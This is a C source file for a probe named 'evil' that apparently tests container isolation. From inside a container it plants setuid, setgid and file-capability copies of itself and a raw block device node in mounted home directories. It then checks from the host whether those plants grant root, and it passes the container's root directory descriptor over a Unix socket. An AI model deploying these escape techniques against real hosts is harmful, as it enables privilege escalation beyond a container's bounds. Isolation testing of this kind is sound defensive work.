/* What a hostile image brings along, as one static program that needs nothing of the image.
 *
 *   evil [...]           inside: tries to leave, in every directory mounted below a "/home/", what is worth root on the host
 *   evil judge DIR       outside, as an ordinary user: runs and opens what was left there, and says what came of it
 *   evil who             what a program that was left says of itself when it is run
 *   evil ask SOCKET LINE sends one HTTP request over a Unix socket and prints the answer
 *   evil stay            sleeps
 *   evil give SOCKET     inside: hands a descriptor of the root directory to whoever connects
 *   evil take SOCKET AT  outside: opens what lies at this place below a descriptor that was handed out, and says what is in it
 *
 * It never gives anyone a shell: what it is worth, it only says.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static int copy_self(const char *to, mode_t mode)
{
	char part[65536];
	ssize_t count;
	int in = open("/proc/self/exe", O_RDONLY), out;

	unlink(to);
	out = open(to, O_WRONLY | O_CREAT | O_EXCL, 0700);
	if (in < 0 || out < 0)
		return -1;
	while ((count = read(in, part, sizeof part)) > 0)
		if (write(out, part, (size_t)count) != count)
			return -1;
	close(in);
	return fchmod(out, mode) || close(out) ? -1 : 0;
}

/* A program of this group's: chown takes the bit away, so the mode comes last. */
static void leave_group(const char *dir, gid_t gid)
{
	char path[4200];

	snprintf(path, sizeof path, "%s/left-sgid-%u", dir, gid);
	if (copy_self(path, 0755) || chown(path, (uid_t)-1, gid) || chmod(path, 02755))
		unlink(path);
}

static void leave_in(const char *dir)
{
	/* Version 2, effective: setuid, setgid and dac_override. */
	const uint32_t caps[5] = {0x02000001, 1u << 7 | 1u << 6 | 1u << 1, 0, 0, 0};
	char path[4200];
	unsigned major_number, minor_number;
	gid_t groups[64];
	int count = getgroups(64, groups);
	FILE *node = fopen("/evil.node", "r");

	printf("tried %s\n", dir);
	snprintf(path, sizeof path, "%s/left-suid", dir);
	copy_self(path, 04755);
	leave_group(dir, getegid());
	for (int i = 0; i < count; i++)
		leave_group(dir, groups[i]);
	snprintf(path, sizeof path, "%s/left-fcap", dir);
	copy_self(path, 0755);
	if (setxattr(path, "security.capability", caps, sizeof caps, 0))
		unlink(path);
	if (node && fscanf(node, "%u %u", &major_number, &minor_number) == 2) {
		snprintf(path, sizeof path, "%s/left-node", dir);
		if (!mknod(path, S_IFBLK | 0666, makedev(major_number, minor_number)))
			chmod(path, 0666);
	}
	snprintf(path, sizeof path, "%s/left-dir", dir);
	mkdir(path, 0755);
}

static int leave(void)
{
	char line[8192];
	FILE *table = fopen("/proc/self/mountinfo", "r");

	/* A setuid program or one with capabilities makes the most of it first. */
	if (setresgid(0, 0, 0)) { /* then as whoever it is */ }
	if (setresuid(0, 0, 0)) { /* then as whoever it is */ }
	umask(0);
	while (table && fgets(line, sizeof line, table)) {
		char at[4096];
		if (sscanf(line, "%*s %*s %*s %*s %4095s", at) == 1 && strstr(at, "/home/"))
			leave_in(at);
	}
	return 0;
}

/* Says which ids a program that was left can take on. */
static int who(void)
{
	if (setuid(0)) { /* it is as it is */ }
	printf("uid %u gid %u\n", geteuid(), getegid());
	return 0;
}

static void judge_program(const char *path)
{
	pid_t child = fork();

	if (child == 0) {
		execl(path, path, "who", (char *)NULL);
		printf("not run\n");
		exit(0);
	}
	waitpid(child, NULL, 0);
}

static void judge_node(const char *path)
{
	char part[13] = "";
	int node = open(path, O_RDONLY);

	if (node < 0 || read(node, part, 12) != 12)
		printf("closed\n");
	else
		printf("device says %s\n", part);
}

static int judge(const char *path)
{
	struct dirent *entry;
	struct stat stat;
	DIR *dir = opendir(path);

	setvbuf(stdout, NULL, _IONBF, 0);
	while (dir && (entry = readdir(dir))) {
		char at[4096];
		snprintf(at, sizeof at, "%s/%s", path, entry->d_name);
		if (strncmp(entry->d_name, "left-", 5) || lstat(at, &stat))
			continue;
		printf("%s: ", entry->d_name);
		if (S_ISREG(stat.st_mode))
			judge_program(at);
		else if (S_ISBLK(stat.st_mode))
			judge_node(at);
		else
			printf("something\n");
	}
	return 0;
}

static int ask(const char *socket_path, const char *line)
{
	struct sockaddr_un name = {.sun_family = AF_UNIX};
	char part[4096];
	ssize_t count;
	int end = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(name.sun_path, socket_path, sizeof name.sun_path - 1);
	if (connect(end, (struct sockaddr *)&name, sizeof name)) {
		perror("connect");
		return 7;
	}
	dprintf(end, "%s HTTP/1.1\r\nHost: d\r\nConnection: close\r\n\r\n", line);
	while ((count = read(end, part, sizeof part)) > 0)
		if (write(1, part, (size_t)count) != count)
			return 1;
	return 0;
}

static int sockets_end(const char *at, int (*join)(int, const struct sockaddr *, socklen_t))
{
	struct sockaddr_un name = {.sun_family = AF_UNIX};
	int end = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(name.sun_path, at, sizeof name.sun_path - 1);
	if (join(end, (struct sockaddr *)&name, sizeof name)) {
		perror(at);
		exit(7);
	}
	return end;
}

union carried {
	struct cmsghdr header;
	char room[CMSG_SPACE(sizeof(int))];
};

static int give(const char *at)
{
	int root = open("/", O_RDONLY | O_DIRECTORY), end, caller;
	struct iovec one = {.iov_base = "!", .iov_len = 1};
	union carried carried = {.header = {.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS}};
	struct msghdr message = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = &carried, .msg_controllen = sizeof carried};

	unlink(at);
	end = sockets_end(at, bind);
	memcpy(CMSG_DATA(&carried.header), &root, sizeof root);
	if (listen(end, 1) || (caller = accept(end, NULL, NULL)) < 0 || sendmsg(caller, &message, 0) != 1)
		return 1;
	return pause();
}

static int take(const char *at, const char *path)
{
	char one, part[13] = "";
	struct iovec room = {.iov_base = &one, .iov_len = 1};
	union carried carried;
	struct msghdr message = {.msg_iov = &room, .msg_iovlen = 1, .msg_control = &carried, .msg_controllen = sizeof carried};
	int root, node;

	if (recvmsg(sockets_end(at, connect), &message, 0) != 1)
		return 1;
	memcpy(&root, CMSG_DATA(&carried.header), sizeof root);
	node = openat(root, path, O_RDONLY);
	if (node < 0)
		printf("closed: %s\n", strerror(errno));
	else if (read(node, part, 12) == 12)
		printf("device says %s\n", part);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "give"))
		return give(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "take"))
		return take(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "judge"))
		return judge(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "who"))
		return who();
	if (argc == 4 && !strcmp(argv[1], "ask"))
		return ask(argv[2], argv[3]);
	if (argc == 2 && !strcmp(argv[1], "stay"))
		return pause();
	return leave();
}
